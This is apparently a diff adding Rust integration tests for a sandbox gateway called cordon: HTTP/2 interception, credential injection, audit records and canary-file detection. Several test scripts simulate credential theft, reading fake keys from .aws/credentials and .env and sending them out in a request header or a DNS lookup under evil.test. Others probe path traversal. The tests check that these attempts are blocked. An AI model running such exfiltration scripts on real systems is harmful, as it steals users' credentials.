@@ -2427,6 +2427,176 @@ fn credentials_reach_their_host_through_interception_and_the_sandbox_never_holds
     assert!(!exported.stdout.contains(&secret));
 }
 
+/// [`GH_POLICY`] with the HTTP/2 origin's port allowed too.
+fn h2_policy() -> String {
+    let policy = GH_POLICY.replace(
+        r#"allow = ["api.fake.test", "#,
+        r#"allow = ["api.fake.test", "api.fake.test:8443", "#,
+    );
+    assert_ne!(policy, GH_POLICY);
+    policy
+}
+
+/// curl inside the sandbox offering HTTP/2: `:443` is the HTTP/1.1 origin, `:8443` the origin
+/// that speaks only HTTP/2. Each line of the `-w` output says which request and protocol.
+const H2_SCRIPT: &str = r#"
+H="Authorization: Bearer $GITHUB_TOKEN"
+W='
+%{http_code} proto=%{http_version}
+'
+echo "--- h1 upstream"; curl --http2 -sS --max-time 10 -D - -w "$W" -H "$H" https://api.fake.test/echo-auth
+echo "--- h2 upstream"; curl --http2 -sS --max-time 10 -D - -w "$W" -H "$H" https://api.fake.test:8443/echo-auth
+echo "--- h2 transparent"; curl --http2 -sS --max-time 10 --noproxy '*' -D - -w "$W" -H "$H" https://api.fake.test:8443/echo-auth
+curl --http2 -sS --max-time 10 -o /dev/null -w "rule %{http_code} %{http_version}
+" https://api.fake.test:8443/admin
+curl --http2 -sS --max-time 10 -o /dev/null -w "dots %{http_code} %{http_version}
+" --path-as-is "https://api.fake.test:8443/echo-auth/%2e%2e/admin"
+curl --http2 -sS --max-time 10 -o /dev/null -w "dlp %{http_code} %{http_version}
+" --data-binary "k=AKIAIOSFODNN7EXAMPLE" https://api.fake.test:8443/upload
+curl --http2 -sS --max-time 10 -o /dev/null -w "post %{http_code} %{http_version}
+" --data-binary "hello" https://api.fake.test:8443/upload
+echo "--- done"
+"#;
+
+#[test]
+fn curl_over_http2_works_through_interception_in_a_real_sandbox_and_the_audit_has_method_and_path()
+{
+    let Some(net) = enter(
+        "curl_over_http2_works_through_interception_in_a_real_sandbox_and_the_audit_has_method_and_path",
+    ) else {
+        return;
+    };
+    if net.log().iter().any(|e| e["kind"] == "h2-missing") {
+        eprintln!(
+            "SKIPPED curl_over_http2_works_through_interception_in_a_real_sandbox_and_the_audit_has_method_and_path: \
+             fakenet.py has no HTTP/2 origin without python3-h2 (scripts/deps.sh installs it)"
+        );
+        return;
+    }
+    // Control: the HTTP/2 origin answers curl --http2 directly, outside cordon.
+    let f = net.bare(&[
+        "curl",
+        "-sS",
+        "--max-time",
+        "5",
+        "--http2",
+        "--cacert",
+        "ca.pem",
+        "--resolve",
+        &format!("api.fake.test:8443:{API_IP}"),
+        "-w",
+        "\nproto=%{http_version}\n",
+        "https://api.fake.test:8443/control",
+    ]);
+    assert!(
+        f.stdout.contains("h2 origin ok") && f.stdout.contains("proto=2"),
+        "{}{}",
+        f.stdout,
+        f.stderr
+    );
+
+    let secret = test_secret();
+    let mark = net.mark();
+    let ca = net.dir.path().join("net/ca.pem").display().to_string();
+    let r = net
+        .cordon()
+        .policy(&h2_policy())
+        .env("GITHUB_TOKEN", &secret)
+        .args(&["--upstream-ca", &ca])
+        .run(&["/bin/sh", "-c", H2_SCRIPT]);
+    let out = &r.stdout;
+    assert_eq!(r.status, 0, "--- stdout\n{out}\n--- stderr\n{}", r.stderr);
+    assert!(
+        !out.contains(&secret),
+        "the secret reached the sandbox:\n{out}"
+    );
+
+    // Every request went over HTTP/2 between curl and the gateway, and worked.
+    let stars = "*".repeat(secret.len());
+    for part in ["h1 upstream", "h2 upstream", "h2 transparent"] {
+        let text = out
+            .split(&format!("--- {part}\n"))
+            .nth(1)
+            .and_then(|t| t.split("\n--- ").next())
+            .unwrap_or_else(|| panic!("no {part} part:\n{out}"));
+        assert!(
+            text.contains("\nHTTP/2 200") || text.starts_with("HTTP/2 200"),
+            "{part}: {text}"
+        );
+        assert!(text.contains("200 proto=2"), "{part}: {text}");
+        assert!(
+            text.contains(&format!("authorization=Bearer {stars}")),
+            "{part}: {text}"
+        );
+        assert!(
+            text.contains(&format!("x-echo-auth: Bearer {stars}")),
+            "{part}: {text}"
+        );
+    }
+    for line in ["rule 403 2", "dots 403 2", "dlp 403 2", "post 200 2"] {
+        assert!(out.lines().any(|l| l == line), "missing {line:?}:\n{out}");
+    }
+
+    // Upstream: the real token, over HTTP/2 to the HTTP/2 origin and HTTP/1.1 to the other.
+    let http = net.seen_since(mark, "http");
+    let bearer = format!("Bearer {secret}");
+    let h2: Vec<_> = http.iter().filter(|e| e["proto"] == "h2").collect();
+    let h1: Vec<_> = http.iter().filter(|e| e["proto"].is_null()).collect();
+    assert_eq!(
+        h2.iter().filter(|e| e["auth"] == bearer.as_str()).count(),
+        2,
+        "{http:#?}"
+    );
+    assert_eq!(
+        h1.iter().filter(|e| e["auth"] == bearer.as_str()).count(),
+        1,
+        "{http:#?}"
+    );
+    assert!(
+        h2.iter()
+            .all(|e| e["path"] == "/echo-auth" || (e["path"] == "/upload" && e["bytes"] == 5)),
+        "a refused request reached the origin: {http:#?}"
+    );
+
+    // The audit has each request's method and path, the refusals and the alerts.
+    let events = net.audit_events(&r.session());
+    assert_attributed(&events, &r);
+    let uses: Vec<_> = records(&events, "http_request", Some("api.fake.test"))
+        .into_iter()
+        .filter(|e| e["method"] == "GET" && e["path"] == "/echo-auth")
+        .collect();
+    assert_eq!(uses.len(), 3, "{events:#?}");
+    assert!(uses.iter().all(|e| e["reason"]
+        .as_str()
+        .is_some_and(|s| s.contains("credential github injected"))));
+    assert!(
+        uses.iter().filter(|e| e["port"] == 8443).count() == 2,
+        "{uses:#?}"
+    );
+    assert!(records(&events, "http_request", Some("api.fake.test"))
+        .iter()
+        .any(|e| e["method"] == "POST" && e["path"] == "/upload"));
+    let refused: Vec<_> = records(&events, "blocked", Some("api.fake.test"))
+        .into_iter()
+        .filter(|e| e["rule"] == "http-rules:default-deny")
+        .collect();
+    assert_eq!(refused.len(), 2, "{events:#?}");
+    assert!(refused
+        .iter()
+        .any(|e| e["method"] == "GET" && e["path"] == "/admin"));
+    let alerts: Vec<&str> = records(&events, "alert", None)
+        .into_iter()
+        .filter_map(|e| e["rule"].as_str())
+        .collect();
+    for rule in ["dlp:aws_access_key_id", "response-redacted:secret:github"] {
+        assert!(alerts.contains(&rule), "no {rule} alert: {alerts:?}");
+    }
+    assert!(!net
+        .audit(&["events", &r.session(), "--json"])
+        .stdout
+        .contains(&secret));
+}
+
 #[test]
 fn an_upstream_that_fails_verification_is_refused_and_a_missing_secret_fails_the_run() {
     let Some(net) =
@@ -2630,8 +2800,14 @@ impl Webhook {
 
 /// The checks every stopping detection shares: exit 137, the reason in the result, on stderr
 /// and in the session's end record, one `alert` audit event for `rule`, one webhook POST with
-/// the session's attribution.
-fn assert_terminated_by(net: &FakeNet, r: &Ran, hook: &Webhook, rule: &str, reason_start: &str) {
+/// the session's attribution. Returns the webhook's payload.
+fn assert_terminated_by(
+    net: &FakeNet,
+    r: &Ran,
+    hook: &Webhook,
+    rule: &str,
+    reason_start: &str,
+) -> Value {
     let session = r.session();
     assert_eq!(r.status, 137, "{}\n{}", r.stdout, r.stderr);
     assert_eq!(r.result["exit_status"], 137);
@@ -2675,6 +2851,7 @@ fn assert_terminated_by(net: &FakeNet, r: &Ran, hook: &Webhook, rule: &str, reas
     assert_eq!(p["rule"], rule);
     assert_eq!(p["summary"], reason.as_str());
     assert!(p["evidence"].is_object(), "{p}");
+    p.clone()
 }
 
 /// A DNS-tunnel loop: one lookup per chunk of "stolen" data under evil.test, each name new.
@@ -2867,6 +3044,198 @@ fn a_honey_token_in_a_header_ends_the_session_before_the_request_leaves() {
     );
 }
 
+/// The canary files a test policy plants: one of each shape.
+const CANARY_FILES: &str = "files = [\".env\", \".aws/credentials\", \".netrc\", \".ssh/id_ed25519\", \".config/gcloud/application_default_credentials.json\"]\n";
+
+/// Paths under the host workspace that no canary file may leave behind.
+fn canary_leftovers(ws: &Path) -> Vec<PathBuf> {
+    [".env", ".aws", ".netrc", ".ssh", ".config"]
+        .iter()
+        .map(|p| ws.join(p))
+        .filter(|p| p.symlink_metadata().is_ok())
+        .collect()
+}
+
+/// The token the sandboxed script printed as `token=…` (so the test knows it).
+fn printed_token(r: &Ran) -> String {
+    r.stdout
+        .lines()
+        .find_map(|l| l.strip_prefix("token="))
+        .unwrap_or_else(|| panic!("no token printed: {}", r.stdout))
+        .to_string()
+}
+
+/// A token read from a canary file must never be written anywhere cordon writes: the result,
+/// stderr, the webhook, the audit (every record of the session, as exported).
+fn assert_token_nowhere(net: &FakeNet, r: &Ran, posted: &[Value], token: &str) {
+    assert!(token.len() >= 20, "{token:?}");
+    let lower = token.to_lowercase();
+    let export = net.audit(&["export", "--session", &r.session()]);
+    assert!(export.status.success(), "{}", export.stderr);
+    for (what, text) in [
+        ("result", r.result.to_string()),
+        ("stderr", r.stderr.clone()),
+        ("webhook", format!("{posted:?}")),
+        ("audit", export.stdout.clone()),
+    ] {
+        assert!(
+            !text.contains(token) && !text.to_lowercase().contains(&lower),
+            "the canary token is in the {what}:\n{text}"
+        );
+    }
+}
+
+/// Workspace canary files: a script reads the fake AWS key id from `.aws/credentials` and sends
+/// it in a SigV4-style header, or puts the `.env` API key in a DNS name. Either ends the session
+/// with the canary rule before anything leaves (the origin and the upstream DNS server never see
+/// it), the alert names the file and not the token, and the host workspace directory has no
+/// canary file afterwards.
+#[test]
+fn a_workspace_canary_token_in_a_header_or_a_dns_name_ends_the_session_and_stays_off_the_host() {
+    let Some(net) = enter(
+        "a_workspace_canary_token_in_a_header_or_a_dns_name_ends_the_session_and_stays_off_the_host",
+    ) else {
+        return;
+    };
+    let ws = net.workspace();
+    assert_eq!(canary_leftovers(&ws), Vec::<PathBuf>::new());
+    let hook = Webhook::start();
+    let policy = format!("{}[detect.canary]\n{CANARY_FILES}", hook.policy());
+
+    // The header: the access key id, as an AWS client would send it.
+    let script = "key=$(sed -n 's/^aws_access_key_id = //p' /workspace/.aws/credentials); \
+                  test ${#key} -eq 20 || exit 3; echo \"token=$key\"; \
+                  curl -s -o /dev/null -H \"Authorization: AWS4-HMAC-SHA256 Credential=$key/20260101/us-east-1/s3/aws4_request\" \
+                  http://api.fake.test/innocent; sleep 5; echo survived";
+    let mark = net.mark();
+    let r = net
+        .cordon()
+        .policy(&policy)
+        .allow(&["api.fake.test:80"])
+        .run(&["sh", "-c", script]);
+    let posted = assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "canary",
+        "canary credential from workspace file .aws/credentials sent out (request head)",
+    );
+    assert_eq!(posted["severity"], "critical");
+    assert_eq!(posted["evidence"]["file"], ".aws/credentials");
+    let fired = &r.result["alerts"][0];
+    assert_eq!(fired["severity"], "critical");
+    assert_eq!(fired["evidence"]["file"], ".aws/credentials");
+    assert!(!r.stdout.contains("survived"));
+    assert!(
+        net.seen_since(mark, "http").is_empty(),
+        "the token reached the origin: {:?}",
+        net.seen_since(mark, "http")
+    );
+    let token = printed_token(&r);
+    assert!(token.starts_with("AKIA"), "{token}");
+    assert_token_nowhere(&net, &r, &[posted], &token);
+    let files: Vec<&str> = r.result["canaries"]["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(files.len(), 5, "{}", r.result);
+    let events = net.audit_events(&r.session());
+    let start = &records(&events, "session_start", None)[0];
+    assert_eq!(
+        start["detail"]["canaries"]["files"]
+            .as_array()
+            .unwrap()
+            .len(),
+        5
+    );
+    assert_eq!(
+        canary_leftovers(&ws),
+        Vec::<PathBuf>::new(),
+        "a canary file reached the host workspace"
+    );
+
+    // The DNS name: the `.env` API key (mixed case; the name arrives lower-cased).
+    let script = r#"
+import socket, time
+key = [l.split("=", 1)[1].strip() for l in open("/workspace/.env") if l.startswith("API_KEY=")][0]
+assert key != key.lower() and len(key) == 40
+print("token=" + key, flush=True)
+try:
+    socket.getaddrinfo(f"{key}.evil.test", 80)
+except OSError:
+    pass
+time.sleep(5)
+print("survived", flush=True)
+"#;
+    let mark = net.mark();
+    let r = net
+        .cordon()
+        .policy(&policy)
+        .allow(&["api.fake.test:80"])
+        .run(&[PY, "-c", script]);
+    let posted = assert_terminated_by(
+        &net,
+        &r,
+        &hook,
+        "canary",
+        "canary credential from workspace file .env sent out (dns name)",
+    );
+    assert_eq!(r.result["alerts"][0]["evidence"]["file"], ".env");
+    assert!(!r.stdout.contains("survived"));
+    let token = printed_token(&r);
+    assert_token_nowhere(&net, &r, &[posted], &token);
+    let asked: Vec<Value> = net.seen_since(mark, "dns");
+    assert!(
+        !format!("{asked:?}")
+            .to_lowercase()
+            .contains(&token.to_lowercase()),
+        "the upstream DNS server heard the token: {asked:?}"
+    );
+    assert_eq!(canary_leftovers(&ws), Vec::<PathBuf>::new());
+}
+
+/// A host workspace that already has a file where a canary would go keeps it: the canary is
+/// skipped (the run says so) and the host's file is neither replaced nor lost.
+#[test]
+fn a_canary_file_never_replaces_a_file_of_the_host_workspace() {
+    let Some(net) = enter("a_canary_file_never_replaces_a_file_of_the_host_workspace") else {
+        return;
+    };
+    let ws = net.workspace();
+    std::fs::write(ws.join(".env"), "REAL_SETTING=1\n").unwrap();
+    let r = net
+        .cordon()
+        .policy("[detect.canary]\nfiles = [\".env\", \".aws/credentials\"]\n")
+        .run(&[
+            "sh",
+            "-c",
+            "cat /workspace/.env; test -s /workspace/.aws/credentials && echo planted",
+        ])
+        .ok();
+    assert!(
+        r.stdout.starts_with("REAL_SETTING=1\nplanted"),
+        "{}",
+        r.stdout
+    );
+    assert_eq!(
+        r.result["canaries"]["skipped"],
+        serde_json::json!([{"path": ".env", "reason": "the workspace already has a file at .env; it is kept as it is"}])
+    );
+    assert!(
+        r.stderr.contains("cordon: warning: canary file .env not planted: the workspace already has a file at .env; it is kept as it is"),
+        "{}",
+        r.stderr
+    );
+    assert_eq!(
+        std::fs::read_to_string(ws.join(".env")).unwrap(),
+        "REAL_SETTING=1\n"
+    );
+    assert!(!ws.join(".aws").exists());
+    std::fs::remove_file(ws.join(".env")).unwrap();
+}
+
 #[test]
 fn a_fork_bomb_fires_the_sandbox_rule_and_is_stopped() {
     let Some(net) = enter("a_fork_bomb_fires_the_sandbox_rule_and_is_stopped") else {
@@ -2973,15 +3342,29 @@ print("ok", ok)
     } else {
         eprintln!("SKIPPED pip part of benign_workloads_are_not_flagged: {PY} has no pip");
     }
+    // With honey tokens present, as a careful operator would run them: a variable and one file
+    // of each shape (HOME is /workspace, so pip's own HTTP library sees the .netrc).
+    let benign_policy = format!(
+        "{}[detect.canary]\nenv = [\"AWS_SECRET_ACCESS_KEY\"]\n{CANARY_FILES}",
+        hook.policy()
+    );
     let (mut runs, mut flagged) = (0, 0);
     for (name, argv, expect) in &workloads {
         for _ in 0..3 {
             let r = net
                 .cordon()
-                .policy(&hook.policy())
+                .policy(&benign_policy)
                 .allow(&["api.fake.test:80", "pypi.fake.test"])
                 .run(argv)
                 .ok();
+            // Honey tokens in the environment and in every canary file shape were there.
+            assert_eq!(
+                r.result["canaries"]["files"].as_array().map(Vec::len),
+                Some(5),
+                "{}",
+                r.result
+            );
+            assert_eq!(canary_leftovers(&net.workspace()), Vec::<PathBuf>::new());
             assert!(
                 r.stdout.contains(expect),
                 "{name}: {}\n{}",
